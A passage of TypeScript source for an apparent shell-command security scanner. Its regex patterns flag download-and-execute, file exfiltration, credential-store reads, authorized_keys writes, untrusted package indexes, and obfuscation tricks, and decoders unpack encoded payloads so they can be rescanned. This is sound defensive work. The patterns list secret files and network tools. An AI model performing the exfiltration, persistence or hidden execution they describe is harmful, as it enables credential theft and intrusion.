  const dir = /(?:-C|--directory[=\s]|-d)\s*["']?([^\s"';&|]+)/.exec(m[1])?.[1]?.replace(/\/+$/, '');
  const after = cmd.slice((m.index ?? 0) + m[0].length);
  const esc = escapeRegExp;
  const target = dir ? `(?:\\.\\/)?${esc(dir.replace(/^\.\//, ''))}\\/[\\w.@-]+` : String.raw`\.\/[\w.@-]+`;
  const runs = new RegExp(String.raw`(?:^|[;&|]\s*|\b(?:exec|nohup|sudo|then)\s+)["']?${target}(?=["'\s;&|)]|$)|\bchmod\s+\S+\s+["']?${target}`, 'i');
  if (!runs.test(after)) return;
  sink.add('shell.download-exec', line, cmd);
  if (untrustedSource(resolved, sink.depth > 0)) sink.add('shell.download-exec-untrusted', line, cmd);
}

/** Commands that publish or send files somewhere else. */
const UPLOAD_COMMAND = /\bgh\s+(?:gist|issue|pr|release|api)\b|\b(?:curl|wget|nc|ncat|http|https|Invoke-WebRequest|Invoke-RestMethod|iwr|irm)\b(?=[^\n]*\$\(\s*(?:cat|type|Get-Content|base64|tar|zip|xxd|head)\b)|\bcurl\b[^\n|;]*?\s(?:-F|--form|-T|--upload-file|--data-binary|-d|--data(?:-raw|-urlencode)?)\s+["']?[\w-]*=?@|\bwget\b[^\n]*--post-file|\bscp\b[^\n]*\s[\w.-]+@[\w.-]+:|\bscp\b[^\n]*\s(?:\d{1,3}\.){3}\d{1,3}:|\brsync\b[^\n]*\s\S+:\S*|\b(?:aws\s+s3\s+cp|gsutil\s+cp|rclone\s+(?:copy|sync))\b|\bnc\s+\S+\s+\d+\s*<|\bInvoke-(?:WebRequest|RestMethod)\b[^\n]*-InFile|\bpastebinit\b|\bgit\s+push\b/i;
/** Credential files and stores (not public keys). */
const SECRET_FILE = /(?:~|\$HOME|\$\{HOME\})\/\.(?:openclaw|clawdbot|ssh|aws|gnupg|kube|config\/gh)\/?\*?(?=[\s"']|$)|(?:\.openclaw|\.clawdbot)[\\/][^\s"']*(?:openclaw\.json|credentials|auth-profiles|sessions)|\b(?:openclaw|clawdbot)\.json\b|auth-profiles\.json|\.ssh[\\/](?:id_\w*\*?(?!\.pub)|\*)|\bid_(?:rsa|ed25519|ecdsa)(?!\.pub)\b|\.aws[\\/]credentials|\.npmrc\b|\.git-credentials|\.env\b|\.kube[\\/]config|\.docker[\\/]config\.json|wallet\.dat|keystore|\.config[\\/]gcloud|login\.keychain|Login\s+Data|cookies\.sqlite|\/etc\/shadow/i;

/**
 * What an upload leaves out (`rsync --exclude=.env`, `tar --exclude ~/.ssh`): not what it sends. Only the long
 * option: a short `-x` is rsync's "one file system" and curl's proxy, and takes no pattern there.
 */
const EXCLUDED = /\s--exclude(?:-from)?(?:=|\s+)(?:"[^"]*"|'[^']*'|\S+)/g;

/** `name=$(… file …)` / ``name=`…` ``: a variable filled from a command that reads a file. */
const SECRET_ASSIGNMENT = /(?:^|[\s;&|(])(?:export\s+|local\s+)?([A-Za-z_]\w{0,30})=["']?(?:\$\(([^)\n]{1,300})\)|`([^`\n]{1,300})`)/g;
/** Stores no third-party API needs in a request: OpenClaw config and credentials, SSH private keys, wallets. */
const AGENT_SECRET_FILE = /\b(?:openclaw|clawdbot)\.json\b|(?:\.openclaw|\.clawdbot)[\\/][^\s"']*(?:credentials|auth-profiles)|auth-profiles\.json|\.ssh[\\/]id_\w+(?!\.pub)|wallet\.dat|\.aws[\\/]credentials/i;
/**
 * A variable read from an agent store appears as data in the command (`?t=$tok`, `-d "p=$tok"`), and the
 * destination itself did not come out of that store (`"$gateway_url/health"` is the user's own gateway).
 */
function sendsSecretVar(cmd: string, secretVars: Set<string>): boolean {
  let data = false;
  for (const v of cmd.matchAll(/\$\{?([A-Za-z_]\w*)\}?/g)) {
    if (!secretVars.has(v[1])) continue;
    const i = v.index ?? 0;
    const after = cmd.slice(i + v[0].length, i + v[0].length + 6);
    if (/:\/\/$/.test(cmd.slice(Math.max(0, i - 3), i)) || /^(?:\/|:\d)/.test(after)) return false;
    data = true;
  }
  return data;
}
/** A command that sends something over the network. */
const NET_SEND = /\b(?:curl|wget|nc|ncat|Invoke-WebRequest|Invoke-RestMethod|iwr|irm|http|https|xh)\b|\b(?:nslookup|dig|host)\s/i;

/** Appending a key to authorized_keys: remote access that survives every password change. */
const AUTHORIZED_KEYS_WRITE = /(?:>>|\btee\s+-a\b[^|;&\n]*?|\bcat\b[^|;&\n]*>>)\s*["']?[~\w$/{}.-]*\.ssh\/authorized_keys2?(?![\w-]|\.(?:new|tmp|temp|bak|old|orig|txt|log|json|csv|md|html?|out)\b)|\bssh-copy-id\b[^\n]*\s(?:-i\s+)?\S*@(?:\d{1,3}\.){3}\d{1,3}|\b(?:ssh-(?:rsa|ed25519|dss)|ecdsa-sha2-\S+)\s+AAAA[A-Za-z0-9+/]{30,}[^\n]*authorized_keys/i;
/** Every branch of AUTHORIZED_KEYS_WRITE names one of these (same flags): a cheap test before the costly one. */
const AUTHORIZED_KEYS_NEEDLE = /authorized_keys|ssh-copy-id/i;
/** Package installers pointed at another index or registry on a raw IP or plain http. */
const UNTRUSTED_INDEX = /\b(?:openclaw|clawdbot|clawhub)\s+(?:plugins?|skills?|extensions?)\s+(?:install|add|update)\b[^\n|;&]*?(?:(?:https?|ftp):\/\/(?!127\.|10\.|192\.168\.)(?:\d{1,3}\.){3}\d{1,3}\b|http:\/\/(?!localhost|127\.|10\.|192\.168\.))|\b(?:npm|pnpm|yarn|bun|pip3?|uv|pipx|gem)\s+(?:install|i|add)\b[^\n|;&]*?\s["']?(?:(?:https?|ftp):\/\/(?!127\.|10\.|192\.168\.)(?:\d{1,3}\.){3}\d{1,3}\b|http:\/\/(?!localhost|127\.|10\.|192\.168\.))|\b(?:pip3?|uv|uvx|pipx|poetry|npm|pnpm|yarn|bun|gem|cargo)\b[^\n|;&]*?(?:--(?:extra-)?index-url|--index|--registry|--find-links|--source|(?:^|\s)-[if])[=\s]+["']?(?:(?:https?|ftp):\/\/(?!127\.|10\.|192\.168\.)(?:\d{1,3}\.){3}\d{1,3}\b|http:\/\/(?!localhost|127\.|10\.|192\.168\.))/i;

/** `$a$b` with `a=cur; b=l` earlier: variables that assemble a command word. */
const APPEND = /(?:^|[\s;&|(])([A-Za-z_]\w{0,30})\+=(?:"([^"`\n]{0,200})"|'([^'\n]{0,200})'|([^\s;&|'"`()<>]{0,200}))(?=[\s;&|)]|$)/g;
const ASSIGNMENT = /(?:^|[\s;&|(])(?:export\s+|local\s+|declare\s+(?:-\w+\s+)?)?([A-Za-z_]\w{0,30})=(?:"([^"`\n]{0,200})"|'([^'\n]{0,200})'|([^\s;&|'"`()<>]{0,200}))(?=[\s;&|)]|$)/g;
/** Words whose appearance only after de-obfuscation means they were hidden on purpose. */
const HIDDEN_WORD = /\b(curl|wget|bash|sh|zsh|nc|ncat|eval|base64|osascript|iex|Invoke-Expression|Invoke-WebRequest|DownloadString)\b|\b(?:\d{1,3}\.){3}\d{1,3}\b/gi;
const REV_ECHO = /(?:echo|printf)\s+(?:-[neE]+\s+)*(["'])((?:(?!\1)[^\n]){8,4000})\1\s*\|\s*rev\b|\brev\s*<<<\s*(["'])((?:(?!\3)[^\n]){8,4000})\3/g;
const XXD_HEX = /(?:echo|printf)\s+(?:-[neE]+\s+)*["']?((?:[0-9a-fA-F]{2}\s?){8,})["']?\s*\|\s*(?:xxd\s+-r\s+-p|xxd\s+-p\s+-r|xxd\s+-rp|xxd\s+-pr|basenc\s+--base16\s+-d)\b/g;
const PRINTF_ESCAPES = /(?:printf|echo\s+-e|echo\s+\$)\s*["'$]*((?:\\x[0-9a-fA-F]{2}|\\[0-7]{3}|\\u[0-9a-fA-F]{4}|[^"'\\\n]){0,40}(?:(?:\\x[0-9a-fA-F]{2}|\\[0-7]{3})[^"'\n]{0,4}){6,}[^"'\n]{0,200})/g;

/** `echo DATA | dec | dec …`: the data and the decoder stages after it. */
const ECHO_PIPELINE = /(?:echo|printf)\s+(?:-[neE]+\s+)*(?:["']?%s["']?\s+)?(["']?)([A-Za-z0-9+/=_-]{16,})\1\s*((?:\|\s*(?:base(?:32|64)|basenc|gunzip|zcat|gzip|bzip2|xz|unxz|xxd|rev|openssl|tr)\b[^|\n]*){1,8})/g;

/** `echo "$a$b${c}" | dec …`: data made only of variables, and the decoder stages after it. */
const ECHO_VARS_PIPELINE = /(?:echo|printf)\s+(?:-[neE]+\s+)*(?:["']?%s["']?\s+)?(["']?)((?:\$\{?[A-Za-z_]\w*\}?){1,40})\1\s*((?:\|\s*(?:base(?:32|64)|basenc|gunzip|zcat|gzip|bzip2|xz|unxz|xxd|rev|openssl|tr)\b[^|\n]*){1,8})/g;

/** Apply a pipeline of decoders in order; undefined when a stage is unknown or the result is not text. */
function runDecoders(data: string, stages: string): { text: string; how: string } | undefined {
  let buf: Buffer = Buffer.from(data, 'utf8');
  const names: string[] = [];
  for (const raw of stages.split('|').map((x) => x.trim()).filter(Boolean)) {
    const st = raw.toLowerCase();
    const txt = buf.toString('utf8').replace(/\s+/g, '');
    try {
      if (/^base64\b|^openssl\b.*base64|^basenc\b.*base64/.test(st)) buf = Buffer.from(txt, 'base64');
      else if (/^base32\b|^basenc\b.*base32/.test(st)) buf = base32(txt);
      else if (/^(gunzip|zcat|gzip)\b/.test(st)) buf = gunzipSync(buf, { maxOutputLength: 1 << 20 });
      else if (/^xxd\b/.test(st)) buf = Buffer.from(txt, 'hex');
      else if (/^rev\b/.test(st)) buf = Buffer.from([...buf.toString('utf8')].reverse().join(''), 'utf8');
      else break;
    } catch {
      return undefined;
    }
    names.push(st.split(/\s+/)[0]);
  }
  if (names.length === 0 || (names.length === 1 && names[0] === "base64")) return undefined;
  const text = buf.toString('utf8');
  return isMostlyPrintable(text) ? { text, how: names.join(' | ') } : undefined;
}

function base32(s: string): Buffer {
  const alphabet = 'ABCDEFGHIJKLMNOPQRSTUVWXYZ234567';
  const clean = s.replace(/=+$/, '').toUpperCase();
  let bits = 0;
  let value = 0;
  const out: number[] = [];
  for (const c of clean) {
    const i = alphabet.indexOf(c);
    if (i < 0) throw new Error('not base32');
    value = (value << 5) | i;
    bits += 5;
    if (bits >= 8) {
      out.push((value >>> (bits - 8)) & 255);
      bits -= 8;
    }
  }
  return Buffer.from(out);
}

function resolveVars(cmd: string, vars: Map<string, string>): string {
  if (vars.size === 0) return cmd;
  let t = cmd;
  for (let pass = 0; pass < 3; pass++) t = t.replace(/\$\{([A-Za-z_]\w*)\}|\$([A-Za-z_]\w*)/g, (whole, a: string | undefined, b: string | undefined) => vars.get((a ?? b)!) ?? whole);
  return t;
}

function hiddenWords(text: string): Set<string> {
  return new Set([...text.matchAll(HIDDEN_WORD)].map((m) => m[0].toLowerCase()));
}

/**
 * Shell tricks that keep the command words out of the text: quote-splitting (`ba""sh`, `c\url`), `${IFS}`,
 * variables assembling `cur`+`l`, strings reversed with `rev`, hex through `xxd -r -p`, printf escapes. The
 * text is rewritten the way the shell would see it; when that reveals words the raw text did not contain,
 * the result is analysed again as decoded text (it was hidden on purpose).
 */
function deobfuscate(text: string, sink: SignalSink, lineAt: (offset: number) => number): void {
  if (sink.depth >= MAX_DECODE_DEPTH || text.length > 200000) return;
  const payloads: Array<{ decoded: string; how: string; offset: number }> = [];
  for (const m of text.matchAll(ECHO_PIPELINE)) {
    const d = runDecoders(m[2], m[3]);
    if (d) payloads.push({ decoded: d.text, how: d.how, offset: m.index ?? 0 });
  }
  // `k1='…'; k2='…'; echo "$k1$k2" | base64 -d | sh`: parts assigned earlier, joined only at the decoder.
  if (/(?:echo|printf)\s+(?:-[neE]+\s+)*(?:["']?%s["']?\s+)?["']?\$/.test(text)) {
    const vars = new Map<string, string>();
    for (const a of text.matchAll(ASSIGNMENT)) vars.set(a[1], a[2] ?? a[3] ?? a[4] ?? '');
    for (const m of text.matchAll(ECHO_VARS_PIPELINE)) {
      const joined = resolveVars(m[2], vars);
      if (/\$/.test(joined) || !/^[A-Za-z0-9+/=_-]{16,}$/.test(joined)) continue;
      const d = runDecoders(joined, m[3]) ?? (/^\|\s*(?:base64|openssl)\b/i.test(m[3].trim()) ? decodeBase64(joined) : undefined);
      const dt = typeof d === 'string' ? { text: d, how: 'base64' } : d;
      if (dt) payloads.push({ decoded: dt.text, how: `joined variables → ${dt.how}`, offset: m.index ?? 0 });
    }
  }
  for (const m of text.matchAll(REV_ECHO)) {
    const body = m[2] ?? m[4];
    payloads.push({ decoded: [...body].reverse().join(''), how: 'rev', offset: m.index ?? 0 });
  }
  for (const m of text.matchAll(XXD_HEX)) {
    const d = Buffer.from(m[1].replace(/\s+/g, ''), 'hex').toString('utf8');
    if (isMostlyPrintable(d)) payloads.push({ decoded: d, how: 'hex (xxd -r)', offset: m.index ?? 0 });
  }
  for (const m of text.matchAll(PRINTF_ESCAPES)) {
    const d = decodeEscapes(m[1]).replace(/\\([0-7]{3})/g, (_, o: string) => String.fromCharCode(parseInt(o, 8)));
    if (d !== m[1] && isMostlyPrintable(d)) payloads.push({ decoded: d, how: 'printf escapes', offset: m.index ?? 0 });
  }
  // Quote-splitting, backslashes inside words and IFS, then variable substitution, line by line.
  if (/[a-z](?:""|''|\\)[a-z]|\$\{?IFS|\$\{?[A-Za-z_]\w*\}?\$\{?[A-Za-z_]|\$\{?[A-Za-z_]\w*\}?[a-z]|[a-z]\$\{?[A-Za-z_]/i.test(text)) {
    const vars = new Map<string, string>();
    let offset = 0;
    for (const raw of text.split('\n')) {
      const lineOffset = offset;
      offset += raw.length + 1;
      if (raw.length > 4000) continue;
      // Each rewrite needs a character or word the line may lack: skipped then, the line is unchanged all the same.
      let t = raw;
      if (t.includes('IFS')) t = t.replace(/\$\{?IFS\}?(?:\$\d+)?/g, ' ');
      if (t.includes('""') || t.includes("''")) t = t.replace(/([A-Za-z0-9_/.-])(?:""|'')+(?=[A-Za-z0-9_/.-])/g, '$1');
      if (t.includes('\\')) t = t.replace(/([A-Za-z])\\(?=[A-Za-z])/g, '$1');
      if (t.includes('=')) for (const a of t.matchAll(ASSIGNMENT)) vars.set(a[1], a[2] ?? a[3] ?? a[4] ?? '');
      if (vars.size > 0 && t.includes('$'))
        for (let pass = 0; pass < 3; pass++)
          t = t.replace(/\$\{([A-Za-z_]\w*)\}|\$([A-Za-z_]\w*)/g, (whole, a: string | undefined, b: string | undefined) => vars.get((a ?? b)!) ?? whole);
      if (t === raw) continue;
      const before = hiddenWords(raw);
      // A word that is one variable's whole value is configuration (`CURL=curl`); one assembled from pieces is hiding.
      const values = [...vars.values()].map((v) => v.toLowerCase());
      if ([...hiddenWords(t)].some((w) => !before.has(w) && !values.some((v) => v.includes(w)))) payloads.push({ decoded: t, how: 'shell de-obfuscation', offset: lineOffset });
    }
  }
  for (const p of payloads.slice(0, 20)) {
    const line = lineAt(p.offset);
    const child = sink.decodedChild();
    child.add('decode.payload', line, `${p.how} → ${p.decoded}`);
    analyzeShell(p.decoded, child, () => line);
  }
}

const EMBEDDED = [ECHO_BASE64, HEREDOC_BASE64, FROM_BASE64];

/** `echo <b64> | base64 -d`, `<<< <b64>`, `powershell -enc <b64>`, `FromBase64String('<b64>')`: decode and scan again. */
function decodeEmbedded(cmd: string, sink: SignalSink, line: number, gate: Gates): void {
  if (sink.depth >= MAX_DECODE_DEPTH) return;
  const found: Array<{ decoded: string; how: string }> = [];
  for (const re of EMBEDDED) {
    re.lastIndex = 0;
    if (re === ECHO_BASE64 ? !gate.echo : re === HEREDOC_BASE64 ? !cmd.includes('<<<') : !gate.fromBase64) continue;
    let m: RegExpExecArray | null;
    while ((m = re.exec(cmd))) {
      const d = decodeBase64(m[1]) ?? decodeBase64Utf16(m[1]);
      if (d) found.push({ decoded: d, how: 'base64' });
    }
  }
  PS_ENCODED.lastIndex = 0;
  let m: RegExpExecArray | null;
  if (gate.powershell) while ((m = PS_ENCODED.exec(cmd))) {
    sink.add('shell.powershell-encoded', line, cmd);
    const d = decodeBase64Utf16(m[1]) ?? decodeBase64(m[1]);
    if (d) found.push({ decoded: d, how: 'powershell -enc' });
  }
  for (const f of found) {
    // base64 of base64 (`| base64 -d | base64 -d`): peel every layer that is itself base64.
    for (let i = 0; i < 4 && /^[A-Za-z0-9+/=\s]{16,}$/.test(f.decoded.trim()); i++) {
      const next = decodeBase64(f.decoded.trim());
      if (!next) break;
      f.decoded = next;
      f.how += ' ×2';
    }
    const child = sink.decodedChild();
    child.add('decode.payload', line, `${f.how} → ${f.decoded}`);
    analyzeShell(f.decoded, child, () => line);
  }
}
